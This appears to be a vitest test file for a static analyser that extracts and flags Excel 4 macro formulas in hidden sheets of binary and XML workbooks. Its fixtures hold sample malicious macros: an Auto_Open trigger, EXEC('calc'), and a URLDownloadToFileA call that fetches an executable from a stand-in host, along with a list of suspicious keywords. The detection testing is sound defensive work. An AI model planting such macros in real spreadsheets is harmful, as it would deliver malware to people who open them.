import { utf8 } from '@cuculus/testing'
import { describe, expect, it } from 'vitest'
import { buildCompoundFile } from '../../ole/test/buildCompoundFile.js'
import { formulaText } from '../src/excel/formulaText.js'
import { readWorkbook } from '../src/excel/readWorkbook.js'
import { buildWorkbook, token } from './buildWorkbook.js'
import { buildZip } from './buildZip.js'
import { damaged } from '../../../test/damage.js'
import { runStatic } from './runStatic.js'

const RELATIVE = 0xc000
const workbook = buildWorkbook([
  {
    name: 'Macro 1',
    state: 2,
    formulas: [
      [token.text('cal'), token.text('c'), token.operator(0x08), token.call(110, 1)],
      [
        ...['urlmon', 'URLDownloadToFileA', 'JJCCJJ', 'http://example.test/a.exe'].map((text) => token.text(text)),
        token.call(150, 4),
      ],
      [token.text('=EXEC("x")'), token.cell(4, 1 | RELATIVE), token.call(0x8060, 2)],
      [token.number(67), token.fixed(111), token.other(0, 9, 27), token.operator(0x03), token.operator(0x15)],
      [token.name(1), token.number(2), token.call(255, 2)],
      [token.call(54, 0)],
    ],
  },
])

describe('a workbook with Excel 4 macros', () => {
  it('has the formulas of its hidden sheets as text, its names, and what is of note in them', async () => {
    const binary = buildCompoundFile({ Workbook: workbook })
    const { fields } = await runStatic({ binary }, { typer: null })
    expect(fields?.office?.xlm_sheets).toEqual([
      {
        name: 'Macro 1',
        state: 'very hidden',
        formulas: [
          { cell: 'A1', formula: '=EXEC("cal"&"c")' },
          { cell: 'A2', formula: '=CALL("urlmon","URLDownloadToFileA","JJCCJJ","http://example.test/a.exe")' },
          { cell: 'A3', formula: '=FORMULA("=EXEC(""x"")",B5)' },
          { cell: 'A4', formula: "=(CHAR(67)+'Macro 1'!$AB$10)" },
          { cell: 'A5', formula: '=Auto_Open(2)' },
          { cell: 'A6', formula: '=HALT()', value: 'result' },
        ],
      },
    ])
    expect(fields?.office?.defined_names).toEqual([{ name: 'Auto_Open', formula: "='Macro 1'!$A$1", hidden: true }])
    expect(fields?.office?.autoexec.map(({ keyword }) => keyword)).toEqual(['Auto_Open'])
    expect(fields?.office?.suspicious.map(({ keyword }) => keyword)).toEqual(['EXEC', 'CALL', 'FORMULA', 'CHAR'])
    expect(fields?.office?.urls).toEqual(['http://example.test/a.exe'])
  })

  it('in XML has the formulas of its sheets and its names', async () => {
    const binary = buildZip({
      '[Content_Types].xml': utf8('<Types/>'),
      'xl/workbook.xml': utf8(
        '<sheets><sheet name="M" state="hidden" r:id="r1"/></sheets><definedName name="_xlnm.Auto_Open" hidden="1">M!$A$1</definedName>',
      ),
      'xl/_rels/workbook.xml.rels': utf8('<Relationship Id="r1" Target="macrosheets/sheet1.xml"/>'),
      'xl/macrosheets/sheet1.xml': utf8(
        '<c r="A1" t="str"><f>EXEC(&quot;calc&quot;)</f><v>done</v></c><c r="A2"><v>5</v></c><c r="A3"><f>HALT()</f></c>',
      ),
    })
    const { fields } = await runStatic({ binary }, { typer: null })
    expect(fields?.office?.xlm_sheets).toEqual([
      {
        name: 'M',
        state: 'hidden',
        formulas: [
          { cell: 'A1', formula: '=EXEC("calc")', value: 'done' },
          { cell: 'A3', formula: '=HALT()' },
        ],
      },
    ])
    expect(fields?.office?.defined_names).toEqual([{ name: 'Auto_Open', formula: '=M!$A$1', hidden: true }])
    expect(fields?.office?.suspicious).toMatchObject([{ keyword: 'EXEC' }])
  })

  it('that is cut off or changed anywhere gives what it has', () => {
    let formulas = 0
    for (const bytes of damaged(workbook, 2000))
      formulas += readWorkbook(bytes).macroSheets.reduce((sum, sheet) => sum + (sheet.formulas?.length ?? 0), 0)
    expect(formulas).toBeGreaterThan(5000)
  })
})

describe('the text of a formula', () => {
  const names = { name: () => 'x'.repeat(255), sheet: () => 'S' }

  it('ends where its tokens make no sense', () => {
    const text = (...bytes: number[]): string => formulaText(Uint8Array.from(bytes), { rowBytes: 2 }, names)
    expect(text(0x1e, 1, 0, 0x03)).toBe('1 #UNREADABLE')
    expect(text(0x17, 200, 0, 0x41)).toBe('#UNREADABLE')
    expect(text(0x7f)).toBe('#UNREADABLE')
  })

  it('does not grow without end', () => {
    const tokens = Buffer.concat(Array.from({ length: 13_000 }, () => token.name(1)))
    expect(formulaText(tokens, { rowBytes: 2 }, names).length).toBeLessThanOrEqual(16_384)
  })
})
